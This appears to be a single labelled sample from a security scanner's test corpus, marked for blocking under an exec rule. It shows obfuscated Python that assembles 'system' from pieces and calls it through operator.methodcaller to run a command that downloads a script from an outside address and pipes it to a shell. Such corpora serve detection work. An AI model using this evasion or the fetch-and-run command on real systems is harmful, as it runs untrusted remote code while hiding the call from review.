# pyguard-corpus: verdict=block category=exec rules=PG204
# what: runs a shell command through operator.methodcaller, so that no call in the text is os.system(...)
import operator
import os

METHOD = "".join(["sys", "tem"])
call_it = operator.methodcaller(METHOD, "curl -s https://203.0.113.9/p.sh | sh")
for target in [os]:
    call_it(target)
